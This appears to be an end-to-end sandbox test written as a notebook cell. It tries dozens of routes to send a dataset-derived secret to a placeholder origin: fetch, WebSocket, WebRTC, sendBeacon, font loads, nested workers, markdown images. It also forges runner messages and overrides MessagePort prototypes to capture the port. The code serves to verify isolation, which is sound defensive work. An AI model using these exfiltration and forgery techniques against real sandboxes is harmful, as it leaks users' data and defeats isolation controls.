// @ts-nocheck — the source of a notebook code cell (tests/e2e/sandbox.test.ts), not a module: `data`, `leaked`,
// `display` come from the notebook. It tries every way out of the code runner it knows, each with the dataset in the
// request, and displays a table: route → "refused: …" (the attempt was made and failed), "unavailable: …" (no such
// API here), "sent: …" (a forged message left the worker; the page must ignore it) or "reached: …" (a leak).
const L = '__ORIGIN__';
const secret = `n${data.n}-${data.eras.slice(0, 2).join('.')}-${leaked}`;
const u = (path) => `${L}/${path}?leak=${encodeURIComponent(secret)}`;
const ws = (path) => u(path).replace(/^http/, 'ws');
const blobUrl = (src) => URL.createObjectURL(new Blob([src], { type: 'text/javascript' }));
const dynamicImport = new Function('u', 'return import(u)');
/** Resolves on `ok`, rejects on `bad` (events of a connection object). */
const settle = (target, ok, bad) =>
  new Promise((resolve, reject) => {
    target.addEventListener(ok, () => resolve(`${ok} event`));
    target.addEventListener(bad, () => reject(new Error(`${bad} event`)));
  });
// what a nested worker tries: fetch, then importScripts; it reports what happened
const nestedSource = `fetch(${JSON.stringify(u('nested-fetch'))}).then(() => postMessage('reached: fetch'), (e) => {
  let second = '';
  try { importScripts(${JSON.stringify(u('nested-import-scripts.js'))}); second = 'reached: importScripts'; } catch (e2) { second = 'importScripts ' + e2; }
  postMessage(second.startsWith('reached') ? second : 'fetch ' + e + '; ' + second);
});`;
const nested = (make) =>
  new Promise((resolve, reject) => {
    const w = make();
    const port = w.port ?? w;
    port.onmessage = (m) => (String(m.data).startsWith('reached') ? resolve(m.data) : reject(new Error(`inside it: ${m.data}`)));
    w.onerror = (ev) => {
      ev.preventDefault?.();
      reject(new Error(`it did not start (${ev.message || 'error event'})`));
    };
  });

const probes = {
  'import() via new Function': () => dynamicImport(u('import-function.js')),
  'import() via (0, eval)': () => (0, eval)(`import(${JSON.stringify(u('import-eval.js'))})`),
  'import() of a data: module that fetches': () => dynamicImport(`data:text/javascript,await fetch(${JSON.stringify(u('data-module'))})`),
  'import() of a blob: module that fetches': () => dynamicImport(blobUrl(`await fetch(${JSON.stringify(u('blob-module'))})`)),
  importScripts: async () => importScripts(u('import-scripts.js')),
  'fetch (POST, preflighted)': () => fetch(u('fetch'), { method: 'POST', headers: { 'content-type': 'application/json', 'x-leak': secret }, body: secret }),
  'fetch (no-cors)': () => fetch(u('fetch-no-cors'), { mode: 'no-cors' }),
  XMLHttpRequest: () =>
    new Promise((resolve, reject) => {
      const x = new XMLHttpRequest();
      x.open('POST', u('xhr'));
      x.onload = () => resolve(`status ${x.status}`);
      x.onerror = () => reject(new Error('error event'));
      x.send(secret);
    }),
  WebSocket: () => settle(new WebSocket(ws('websocket')), 'open', 'error'),
  WebSocketStream: () => new WebSocketStream(ws('websocket-stream')).opened,
  EventSource: () => settle(new EventSource(u('event-source')), 'open', 'error'),
  WebTransport: () => new WebTransport(u('web-transport').replace(/^http:/, 'https:')).ready,
  RTCPeerConnection: async () => {
    const pc = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(L).host}` }] });
    pc.createDataChannel('leak');
    await pc.setLocalDescription(await pc.createOffer());
    return 'offer made';
  },
  'navigator.sendBeacon': async () => {
    if (!navigator.sendBeacon(u('beacon'), secret)) throw new Error('sendBeacon returned false');
  },
  'new FontFace(…).load()': () => new FontFace('probe', `url(${u('font.woff2')})`).load(),
  'self.fonts.load': async () => {
    const face = new FontFace('probe-set', `url(${u('font-set.woff2')})`);
    self.fonts.add(face);
    await self.fonts.load('12px probe-set');
    if (face.status !== 'loaded') throw new Error(`the font's status is "${face.status}"`);
  },
  'createImageBitmap(fetch(…))': async () => createImageBitmap(await (await fetch(u('bitmap.png'))).blob()),
  'nested Worker from blob:': () => nested(() => new Worker(blobUrl(nestedSource))),
  'nested Worker from data:': () => nested(() => new Worker(`data:text/javascript,${encodeURIComponent(nestedSource)}`)),
  'SharedWorker from blob:': () => nested(() => new SharedWorker(blobUrl(nestedSource))),
  'SharedWorker from data:': () => nested(() => new SharedWorker(`data:text/javascript,${encodeURIComponent(nestedSource)}`)),
  'Worker from the server': () => nested(() => new Worker(u('worker.js'))),
  indexedDB: () =>
    new Promise((resolve, reject) => {
      const r = indexedDB.open('leak');
      r.onsuccess = () => resolve('opened');
      r.onerror = () => reject(r.error);
    }),
  caches: () => caches.open('leak'),
  'navigator.storage (private file system)': () => navigator.storage.getDirectory(),
  'parent.postMessage': async () => parent.postMessage({ type: 'done', runId: 1, values: {} }, '*'),
  'self.postMessage to the frame': async () => {
    self.postMessage({ type: 'display', runId: 1, item: { kind: 'text', text: 'FORGED by self.postMessage' } });
    return 'a display to the sandbox frame';
  },
  'display() kept from an earlier run': async () => {
    self.staleDisplay('FORGED by a stale display()');
    self.staleProgress(0.99, 'FORGED by a stale progress()');
    return 'a display and a progress for a finished run';
  }
};
// the port-capture attempts go last: had one worked, the runner's own messages would be captured too
const capture = {
  'override MessagePort.prototype.postMessage': async () => {
    MessagePort.prototype.postMessage = function () {
      self.capturedPort = this;
    };
  },
  'redefine MessageEvent.prototype.data': async () => {
    Object.defineProperty(MessageEvent.prototype, 'data', {
      get() {
        self.capturedEvent = this;
      }
    });
  },
  'override EventTarget.prototype.addEventListener': async () => {
    EventTarget.prototype.addEventListener = () => undefined;
  }
};

const forged = new Set(['self.postMessage to the frame', 'display() kept from an earlier run']);
const missing = /is not defined|is not a constructor|is not a function|Cannot read properties of undefined/;
async function attempt(route, f) {
  try {
    const r = await Promise.race([f(), new Promise((_, reject) => setTimeout(() => reject(new Error('NO ANSWER after 5 s')), 5000))]);
    return `${forged.has(route) ? 'sent' : 'reached'}: ${String(r ?? 'done').slice(0, 120)}`;
  } catch (e) {
    const text = e && typeof e === 'object' && 'message' in e ? `${e.name}: ${e.message}` : String(e);
    return `${missing.test(text) ? 'unavailable' : 'refused'}: ${text.slice(0, 200)}`;
  }
}
const outcomes = {};
await Promise.all(Object.entries(probes).map(async ([route, f]) => (outcomes[route] = await attempt(route, f))));
for (const [route, f] of Object.entries(capture)) outcomes[route] = await attempt(route, f);
outcomes['port captured'] = self.capturedPort || self.capturedEvent ? 'reached: the runner port was captured' : 'refused: nothing captured';
display(Object.entries(outcomes).map(([route, outcome]) => ({ route, outcome })));
display(md`Output markdown: ![output image](${u('md-output.png')}) <img src="${u('md-output-html.png')}"> <div style="background:url(${u('md-output-css.png')})">css</div> <link rel="prefetch" href="${u('md-output-prefetch')}">`);
const probed = Object.keys(outcomes).length;
